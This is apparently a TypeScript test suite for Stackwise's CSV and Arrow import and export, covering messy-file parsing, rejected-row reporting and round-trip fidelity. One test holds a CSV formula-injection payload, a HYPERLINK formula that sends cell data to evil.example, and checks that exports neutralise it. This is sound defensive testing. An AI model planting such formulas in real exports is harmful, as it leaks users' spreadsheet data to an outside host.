// Stackwise's CSV templates and Arrow IPC: messy files taken as they come, rejected rows named,
// counts reconciled, and exports that import back unchanged.
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { RecordBatchStreamWriter, tableFromIPC } from 'apache-arrow';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Db } from '../../src/lib/server/db/client.ts';
import { exportTables, tableRows } from '../../src/lib/server/import/flat/export.ts';
import { arrowSchema, recordBatch } from '../../src/lib/server/import/flat/arrow-types.ts';
import { bundledDataPath, collectFiles, importFiles } from '../../src/lib/server/import/index.ts';
import { countRows } from '../../src/lib/server/import/loader.ts';
import { TABLE_ORDER } from '../../src/lib/server/import/records.ts';
import { bufferSource } from '../../src/lib/server/import/source.ts';
import { engines } from './engines.ts';

const templates = join(import.meta.dirname, '../../data/templates');
const tmp = mkdtempSync(join(tmpdir(), 'stackwise-flat-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

async function snapshot(db: Db) {
	const out: Record<string, unknown[]> = {};
	for (const table of TABLE_ORDER) {
		out[table] = [];
		for await (const page of tableRows(db, table)) out[table].push(...page);
	}
	return out;
}

describe.each(engines)('CSV templates and Arrow on $name', (engine) => {
	let db: Db;
	beforeAll(async () => {
		db = await engine.open();
	});
	afterAll(async () => {
		await db?.close();
	});

	it('imports the documented templates, parents before children, and again changes nothing', async () => {
		const { reports, unrecognised } = await importFiles(db, collectFiles([templates]));
		expect(unrecognised).toEqual([]);
		expect(reports.map((r) => [r.format, r.status])).toEqual([['csv', 'succeeded']]);
		for (const f of reports[0].files) expect(f.rejected).toBe(0);
		expect(await countRows(db)).toMatchObject({
			providers: 1,
			credentials: 3,
			credential_skills: 1,
			requirement_groups: 1,
			requirement_members: 2,
			prerequisites: 1,
			learners: 1,
			enrolments: 2,
			awards: 1
		});
		const again = await importFiles(db, collectFiles([templates]));
		for (const change of Object.values(again.reports[0].changed))
			expect(change).toEqual({ inserted: 0, updated: 0 });
	});

	it('takes a messy file as it comes: BOM, semicolons, CRLF, quotes, renamed columns; rejects bad rows by line and field', async () => {
		const text =
			'\uFEFFLearner;Enrolment;Module;Cohort;Start;End;Status;Result\r\n' +
			'nw-0001;nw-0001-x1;NW-DATA-1;"2025;S1";2025-02-03;2025-03-30;completed;"pass, with ""merit"""\r\n' +
			'nw-0001;nw-0001-x2;NW-DATA-2;2025S1;03/02/2025;;in_progress;\r\n' +
			'nw-0001;nw-0001-x3;NW-DATA-2;2025S1;2025-02-03;2025-03-30;finished;\r\n' +
			'nw-0001;nw-0001-x4;NO-SUCH-UNIT;2025S1;2025-02-03;;in_progress;\r\n' +
			'nw-9999;nw-9999-x5;NW-DATA-2;2025S1;2025-02-03;;in_progress;\r\n';
		const map = {
			Learner: 'learner_id',
			Enrolment: 'id',
			Module: 'credential_id',
			Cohort: 'cohort',
			Start: 'started_on',
			End: 'ended_on',
			Status: 'status',
			Result: 'result'
		};
		const { reports } = await importFiles(db, [bufferSource('registrations-2025.csv', Buffer.from(text))], {
			map
		});
		const [file] = reports[0].files;
		expect(reports[0].status).toBe('succeeded');
		expect(file).toMatchObject({ read: 5, stored: 1, rejected: 4 });
		expect(file.errors.map((e) => [e.line, e.field])).toEqual([
			[3, 'started_on'],
			[4, 'status'],
			[5, 'credential_id'],
			[6, 'learner_id']
		]);
		expect(file.errors[0].message).toBe('"03/02/2025" is not a date (YYYY-MM-DD)');
		const [row] = await db.query<{ cohort: string; result: string }>(
			(await import('drizzle-orm')).sql`select cohort, result from enrolments where id = 'nw-0001-x1'`
		);
		expect(row).toEqual({ cohort: '2025;S1', result: 'pass, with "merit"' });
	});

	it('exports every table to Arrow and CSV, and each imports back into an empty database unchanged', async () => {
		// Add real rows with every kind of value: a slice of OULAD.
		const { reports } = await importFiles(db, collectFiles([bundledDataPath()]));
		expect(reports[0].status).toBe('succeeded');
		const before = await snapshot(db);
		for (const format of ['arrow', 'csv'] as const) {
			const outDir = join(tmp, `${engine.name}-${format}`);
			const files = await exportTables(db, { format, outDir });
			expect(files.map((f) => f.table)).toEqual([...TABLE_ORDER]);
			expect(files.find((f) => f.table === 'enrolments')!.rows).toBe(32593 + 2 + 1); // OULAD, the template's two, the messy file's one
			const fresh = await engine.open();
			try {
				const result = await importFiles(fresh, collectFiles([outDir]));
				expect(result.unrecognised).toEqual([]);
				expect(result.reports.map((r) => r.format)).toEqual([format]);
				for (const f of result.reports[0].files)
					expect(f.rejected, `${f.path}: ${JSON.stringify(f.errors[0])}`).toBe(0);
				const after = await snapshot(fresh);
				for (const t of TABLE_ORDER) expect([t, after[t].length]).toEqual([t, before[t].length]);
				expect(after).toEqual(before);
			} finally {
				await fresh.close();
			}
		}
		const arrowFile = readFileSync(join(tmp, `${engine.name}-arrow`, 'enrolments.arrow'));
		const table = tableFromIPC(arrowFile);
		expect(table.schema.metadata.get('stackwise.table')).toBe('enrolments');
		expect(String(table.schema.fields.find((f) => f.name === 'started_on')!.type)).toBe('Date32<DAY>');
		expect(readdirSync(join(tmp, `${engine.name}-csv`))).toContain('enrolments.csv');
	});

	it('exports an imported formula neutralised, and it imports back as it was', async () => {
		const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"x")';
		const text =
			'id,name,kind,country,qa_approach,accredited,origin\n' +
			`formula-provider,"${hyperlink.replace(/"/g, '""')}",vet,AU,,true,generated\n` +
			// A value that begins with a quote before a formula character (as read: one quote).
			"formula-provider-2,''=already quoted,vet,AU,,true,generated\n";
		const { reports } = await importFiles(db, [bufferSource('providers.csv', Buffer.from(text))]);
		expect(reports[0].files[0]).toMatchObject({ stored: 2, rejected: 0 });
		const outDir = join(tmp, `${engine.name}-formula`);
		await exportTables(db, { format: 'csv', outDir, tables: ['providers'] });
		const lines = readFileSync(join(outDir, 'providers.csv'), 'utf8').split('\r\n');
		expect(lines).toContain(
			`formula-provider,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")",vet,AU,,true,generated`
		);
		expect(lines).toContain("formula-provider-2,''=already quoted,vet,AU,,true,generated");
		const fresh = await engine.open();
		try {
			await importFiles(fresh, collectFiles([outDir]));
			const rows = await fresh.query<{ name: string }>(
				(await import('drizzle-orm'))
					.sql`select name from providers where id like 'formula-provider%' order by id`
			);
			expect(rows.map((r) => r.name)).toEqual([hyperlink, "'=already quoted"]);
		} finally {
			await fresh.close();
		}
	});

	it('reads the Arrow stream format too', async () => {
		const schema = arrowSchema('learners');
		const batch = recordBatch(schema, 'learners', [
			{
				id: 'arrow-1',
				gender: 'F',
				age_band: '35-55',
				disability: 'N',
				deprivation_band: 'not stated',
				region: 'Wales',
				prior_education: 'HE Qualification',
				analytics_consent: true,
				identity_hash: null,
				origin: 'real'
			}
		]);
		const bytes = RecordBatchStreamWriter.writeAll([batch]).toUint8Array(true);
		const { reports } = await importFiles(db, [bufferSource('learners.arrows', bytes)]);
		expect(reports[0].format).toBe('arrow');
		expect(reports[0].files[0]).toMatchObject({ read: 1, stored: 1, rejected: 0 });
	});
});
